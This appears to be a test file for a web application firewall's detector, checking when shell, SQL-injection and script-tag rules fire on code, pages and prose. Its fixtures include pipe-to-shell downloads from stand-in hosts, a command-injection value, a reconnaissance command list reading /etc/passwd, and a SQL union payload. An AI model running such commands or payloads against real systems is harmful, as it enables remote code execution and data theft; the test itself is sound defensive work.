import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isWork, shapeOf } from './shape.ts';
import type { Place } from './waf.ts';

const script = [
  '#!/usr/bin/env bash',
  'set -euo pipefail',
  'BACKUP_DIR="/var/backups/$(date +%F)"',
  'mkdir -p "$BACKUP_DIR"',
  'for db in $(mysql -N -e "SHOW DATABASES"); do',
  '  mysqldump "$db" | gzip > "$BACKUP_DIR/$db.sql.gz"',
  'done',
  'curl -sSL https://tools.example/install.sh | bash',
].join('\n');
const page = [
  '<!DOCTYPE html>',
  '<html lang="en">',
  '<head>',
  '  <script src="https://cdn.example/vue.js"></script>',
  '</head>',
  '<body onload="init()">',
  '  <div id="app"></div>',
  '</body>',
  '</html>',
].join('\n');
const change =
  'diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n-    os.system(cmd)\n+    run(cmd)\n x = 1';
const programs: readonly (readonly [string, string])[] = [
  ['a shell script', script],
  ['a change', change],
  [
    'Go',
    'package main\n\nimport "os/exec"\n\nfunc main() {\n\tout, _ := exec.Command("sh", "-c", "ls -la | wc -l").Output()\n\tprintln(string(out))\n\tfor i := 0; i < 3; i++ {\n\t\tprintln(i)\n\t}\n}',
  ],
  [
    'a Dockerfile',
    'FROM node:24-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci && rm -rf /root/.npm\nCOPY . .\nRUN npm run build\nCMD ["node", "dist/index.js"]',
  ],
];
const others: readonly (readonly [string, string])[] = [
  ['a short value', '1; curl http://x.example/a.sh | sh'],
  ['a break-out with a program behind it', `'; ${script}`],
  [
    'prose',
    'We met on Tuesday.\nIt went well.\nEverybody agreed.\nThe plan is good.\nSee you soon.\nAnna and Jim\nPS: bring cake, please, for the whole team of us',
  ],
  [
    'one command on each line',
    'id\nwhoami\nuname -a\ncat /etc/passwd\nls -la /root\nps aux\nnetstat -an\nwget http://x.example/a.sh -O /tmp/a',
  ],
];
const at: Place = { zone: 'json', name: 'content', part: 'value' };
const judge = (rule: string, text: string, needle: string, place = at): boolean =>
  isWork(rule, { place, text, start: text.indexOf(needle), shape: () => shapeOf(text) });

describe('documents of code', () => {
  for (const [name, text] of programs) test(`knows ${name}`, () => assert.equal(shapeOf(text), 'program'));
  test('knows a page', () => assert.equal(shapeOf(page), 'page'));
  for (const [name, text] of others) test(`takes ${name} for none`, () => assert.equal(shapeOf(text), 'other'));

  test('lets their lines be, but not a literal of the application ended within them', () => {
    assert.equal(judge('shell.pipe-to-interpreter', script, 'curl'), true);
    const ended = `${script}\n' union select name from users -- `;
    assert.equal(judge('sqli.union', ended, "' union"), false);
  });

  test('lets the lines of a trace of Python be, and judges what stands below no such line', () => {
    const trace =
      'Traceback (most recent call last):\n  File "/srv/a.py", line 3, in run\n    os.system(cmd)\nNameError: x';
    assert.equal(judge('code.python', trace, 'os.system'), true);
    assert.equal(judge('code.python', trace.replace('  File "/srv/a.py", line 3, in run\n', ''), 'os.system'), false);
    assert.equal(judge('shell.substitution', trace, 'os.system'), false);
  });

  test('judges paths, queries, headers, cookies and names as ever', () => {
    for (const zone of ['path', 'query', 'header', 'cookie'] as const)
      assert.equal(judge('shell.pipe-to-interpreter', script, 'curl', { ...at, zone }), false);
    assert.equal(judge('shell.pipe-to-interpreter', script, 'curl', { ...at, part: 'name' }), false);
  });

  test('judges markup put behind a program', () =>
    assert.equal(judge('xss.script_element', `${script}\n<script>alert(1)</script>`, '<script>'), false));

  test('still stops a shell connected to another machine', () =>
    assert.equal(judge('shell.reverse-shell', script, 'curl'), false));

  test('lets commands between fences and backticks be where people write around them, and only there', () => {
    const said = 'It fails for me on Ubuntu, see this:\n```\ngit pull; rm -rf build\n```\nWhat is wrong?';
    assert.equal(judge('shell.chained-command', said, '; rm'), true);
    assert.equal(judge('shell.chained-command', `${said} ; rm -rf build`, '; rm -rf build', at), true);
    assert.equal(judge('shell.chained-command', '```; rm -rf build```', '; rm'), false);
    assert.equal(judge('shell.chained-command', 'He wrote `if a; then echo yes; fi` and it failed', '; then'), true);
    assert.equal(judge('xss.script_element', said, 'git'), false);
  });

  test('takes time in proportion to the text', () => {
    const cost = (unit: string, length: number): number => {
      const text = `words before it all ${unit.repeat(length / unit.length)}`;
      const before = performance.now();
      shapeOf(text);
      judge('shell.chained-command', text, unit);
      return performance.now() - before;
    };
    for (const unit of ['```', '`', '<pre>', '{code}', '(', 'public ', 'a\n', '[code=x]', '{ \n', 'static static'])
      assert.ok(Math.min(cost(unit, 32_768), cost(unit, 32_768), cost(unit, 32_768)) < 250, unit);
  });
});
